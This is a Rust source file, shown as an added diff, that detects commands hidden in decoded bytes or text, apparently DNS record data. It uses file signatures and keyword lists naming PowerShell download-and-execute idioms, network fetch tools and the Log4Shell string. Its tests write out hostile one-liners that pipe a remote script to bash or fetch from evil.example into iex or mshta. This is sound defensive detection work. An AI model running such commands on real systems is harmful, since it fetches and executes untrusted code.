@@ -1,0 +1,259 @@
+//! What bytes or a text are, by their first bytes or by words that only such a text has.
+
+/// What a text makes a computer do.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum ExecutableKind {
+    PowerShell,
+    Script,
+    Command,
+}
+
+impl ExecutableKind {
+    pub fn name(self) -> &'static str {
+        match self {
+            Self::PowerShell => "PowerShell",
+            Self::Script => "script",
+            Self::Command => "command",
+        }
+    }
+}
+
+/// What decoded bytes are.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Content {
+    Text,
+    Json,
+    SshBanner,
+    Executable(ExecutableKind),
+    /// Bytes that are not text but hold the words of a command.
+    BytesWith(ExecutableKind),
+    Elf,
+    Pe,
+    Gzip,
+    Zip,
+    /// A kind of file, by its usual extension.
+    File(&'static str),
+}
+
+impl Content {
+    pub fn name(self) -> &'static str {
+        match self {
+            Self::Text => "text",
+            Self::Json => "JSON",
+            Self::SshBanner => "SSH banner",
+            Self::Executable(kind) => kind.name(),
+            Self::BytesWith(ExecutableKind::PowerShell) => "bytes with PowerShell",
+            Self::BytesWith(ExecutableKind::Script) => "bytes with a script",
+            Self::BytesWith(ExecutableKind::Command) => "bytes with a command",
+            Self::Elf => "ELF",
+            Self::Pe => "PE",
+            Self::Gzip => "gzip",
+            Self::Zip => "zip",
+            Self::File(extension) => extension,
+        }
+    }
+}
+
+/// Bytes as text, if people can read them: UTF-8, or the UTF-16 of PowerShell's encoded commands.
+pub fn as_text(bytes: &[u8]) -> Option<String> {
+    // A DNS string ends after 255 bytes, perhaps in the middle of a character.
+    let utf8 = match std::str::from_utf8(bytes) {
+        Ok(text) => Some(text),
+        Err(error) if error.error_len().is_none() => bytes.get(..error.valid_up_to()).and_then(|bytes| std::str::from_utf8(bytes).ok()),
+        Err(_) => None,
+    };
+    let text = match utf8 {
+        Some(text) if !bytes.contains(&0) => text.to_owned(),
+        _ => {
+            let (pairs, _) = bytes.as_chunks::<2>();
+            let latin = pairs.iter().filter(|pair| pair[1] == 0).count();
+            if pairs.len() < 4 || latin * 10 < pairs.len() * 8 {
+                return None;
+            }
+            String::from_utf16(&pairs.iter().map(|pair| u16::from_le_bytes(*pair)).collect::<Vec<_>>()).ok()?
+        }
+    };
+    let count = |(all, control), c: char| (all + 1, control + usize::from(c.is_control() && !c.is_whitespace()));
+    let (all, control) = text.chars().fold((0, 0), count);
+    (all >= 4 && control * 20 <= all).then_some(text)
+}
+
+/// Words that occur in PowerShell and not in prose, in lower case.
+const POWERSHELL: &[&str] = &[
+    "powershell",
+    "pwsh",
+    "invoke-expression",
+    "invoke-webrequest",
+    "invoke-restmethod",
+    "invoke-command",
+    "invoke-item",
+    "new-object",
+    "frombase64string",
+    "tobase64string",
+    "downloadstring",
+    "iex(",
+    "iex (",
+    "iex $",
+    "|iex",
+    "| iex",
+    "irm http",
+    "iwr http",
+    "iwr -",
+    "$env:",
+    "$global:",
+    "-encodedcommand",
+    "start-sleep",
+    "out-string",
+    "[system.",
+    "foreach-object",
+    "-executionpolicy",
+    "-exec bypass",
+];
+const SCRIPT: &[&str] =
+    &["<script", "function(", "eval(", "wscript", "createobject(", "import os;", "import os,", "import socket", "require('", "require(\""];
+const COMMAND: &[&str] = &[
+    "cmd.exe",
+    "cmd /c",
+    "/bin/",
+    "/dev/tcp/",
+    "/etc/",
+    "curl -",
+    "curl http",
+    "curl $",
+    "wget -",
+    "wget http",
+    "wget $",
+    "chmod +",
+    "chmod 7",
+    "rundll32",
+    "regsvr32",
+    "certutil",
+    "mshta",
+    "bitsadmin",
+    "schtasks",
+    "cscript",
+    "msiexec",
+    "wmic ",
+    "whoami",
+    "ipconfig",
+    "net localgroup",
+    "nslookup -",
+    "uname -",
+    "|bash",
+    "| bash",
+    "|sh",
+    "| sh",
+    "python -c",
+    "python3 -c",
+    "perl -e",
+    "php -r",
+    "${jndi:",
+];
+
+/// The words of each kind, in the order in which the kinds are tried.
+pub const EXECUTABLE_WORDS: [(ExecutableKind, &[&str]); 3] =
+    [(ExecutableKind::PowerShell, POWERSHELL), (ExecutableKind::Script, SCRIPT), (ExecutableKind::Command, COMMAND)];
+
+/// What a text makes a computer do, or `None` if it has no such word.
+pub fn executable_kind(text: &str) -> Option<ExecutableKind> {
+    let lower = text.to_ascii_lowercase();
+    // The word must stand alone: not part of `firm`, of `| show`, of a host name, or of a path in the middle of a URL.
+    let stands_alone = |word: &str, at: usize| {
+        let (before, after) = (lower.get(..at).unwrap_or_default(), lower.get(at + word.len()..).unwrap_or_default());
+        let joined_before = before.chars().next_back().is_some_and(|c| match word.chars().next() {
+            Some('/') => c.is_alphanumeric() || "./-_".contains(c),
+            Some(first) if first.is_ascii_alphanumeric() => c.is_alphanumeric() || "./-_@".contains(c),
+            _ => false,
+        });
+        let ends_as_word = word.ends_with(|c: char| c.is_ascii_alphanumeric()) && !word.ends_with("http");
+        let joined_after = after.chars().next().is_some_and(|c| match c {
+            '.' => !["exe", "shell", " "].iter().any(|rest| after.get(1..).unwrap_or_default().starts_with(rest)) && after.len() > 1,
+            _ => c.is_alphanumeric() || "-_@".contains(c),
+        });
+        !(joined_before || ends_as_word && joined_after)
+    };
+    let has_any = |words: &[&str]| words.iter().any(|word| lower.match_indices(word).any(|(at, _)| stands_alone(word, at)));
+    EXECUTABLE_WORDS.into_iter().find(|(_, words)| has_any(words)).map(|(kind, _)| kind)
+}
+
+/// What a text is.
+pub fn content_of_text(text: &str) -> Content {
+    if text.starts_with("SSH-") {
+        Content::SshBanner
+    } else if text.starts_with("#!") {
+        Content::Executable(ExecutableKind::Script)
+    } else if text.starts_with(['{', '[']) && serde_json::from_str::<serde_json::Value>(text).is_ok() {
+        Content::Json
+    } else {
+        executable_kind(text).map_or(Content::Text, Content::Executable)
+    }
+}
+
+/// What bytes are that are not text. Programs, and files with a signature of three bytes or more: tokens begin with any two
+/// bytes by chance.
+pub fn content_of_bytes(bytes: &[u8]) -> Option<Content> {
+    const EXTENSIONS: [&str; 13] = ["pdf", "png", "jpg", "gif", "7z", "rar", "xz", "zst", "cab", "wasm", "sqlite", "rtf", "msi"];
+    let by_signature =
+        || infer::get(bytes).map(|kind| kind.extension()).filter(|extension| EXTENSIONS.contains(extension)).map(Content::File);
+    match bytes {
+        [b'M', b'Z', b'P' | 0x90, 0, ..] => Some(Content::Pe),
+        [b'M', b'Z', ..] if bytes.len() >= 64 => Some(Content::Pe),
+        [0x7f, b'E', b'L', b'F', ..] => Some(Content::Elf),
+        [0x1f, 0x8b, 8, ..] => Some(Content::Gzip),
+        [b'P', b'K', 3, 4, ..] => Some(Content::Zip),
+        [b'S', b'S', b'H', b'-', ..] => Some(Content::SshBanner),
+        _ => by_signature().or_else(|| with_words(bytes)),
+    }
+}
+
+/// The readable characters of bytes, with spaces in place of the others.
+pub fn readable(bytes: &[u8]) -> String {
+    bytes.iter().map(|byte| if matches!(byte, b' '..=b'~') { char::from(*byte) } else { ' ' }).collect()
+}
+
+/// Bytes that are not text but hold a command, so that an escape or a zero byte in a command does not hide it.
+fn with_words(bytes: &[u8]) -> Option<Content> {
+    const MAX_BYTES: usize = 4 << 10; // called for each of about sixteen decodings of a text
+    executable_kind(&readable(bytes.get(..MAX_BYTES).unwrap_or(bytes))).map(Content::BytesWith)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn words_stand_alone() {
+        for (text, expected) in [
+            ("curl -fsSL http://203.0.113.5/i.sh | bash", Some("command")),
+            ("mshta evil.example/x.mp3 # I am not a robot", Some("command")),
+            ("irm evil.example/a|iex", Some("PowerShell")),
+            ("CreateObject(\"WScript.Shell\").Run \"calc\"", Some("script")),
+            ("our firm is here | show more", None),
+            ("v=spf1 include:curly.example -all", None),
+            ("we mandate reimport osmosis", None),
+            ("root:x:0:0:root:/root:/bin/bash", Some("command")),
+            ("C:\\Windows\\System32\\cmd.exe /c dir", Some("command")),
+            ("certutil.exe -urlcache", Some("command")),
+            // Found in review: names of hosts, paths of addresses and prose were commands.
+            ("v=spf1 include:powershell.example -all", None),
+            ("v=BIMI1; l=https://example.com/bin/logo.svg; a=", None),
+            ("dnslink=/ipns/example.com/etc/x", None),
+            ("heritage=external-dns,external-dns/owner=a,external-dns/resource=service/cscript", None),
+            ("Blocked - see https://lists.example.org/etc/lookup?192.0.2.4", None),
+            ("We curl hair", None),
+            ("irm ok", None),
+            ("my require(s) docs", None),
+            ("invoke-billing=123", None),
+        ] {
+            assert_eq!(executable_kind(text).map(ExecutableKind::name), expected, "{text}");
+        }
+    }
+
+    #[test]
+    fn headers_of_programs_are_short() {
+        assert_eq!(content_of_bytes(b"MZ\x90\0\x03\0\0\0"), Some(Content::Pe));
+        assert_eq!(content_of_bytes(b"\x7fELF\x02"), Some(Content::Elf));
+        assert_eq!(content_of_bytes(b"MZabcdefgh"), None);
+        assert_eq!(content_of_bytes(b"\0\x01\x02/bin/sh -i\0"), Some(Content::BytesWith(ExecutableKind::Command)));
+    }
+}
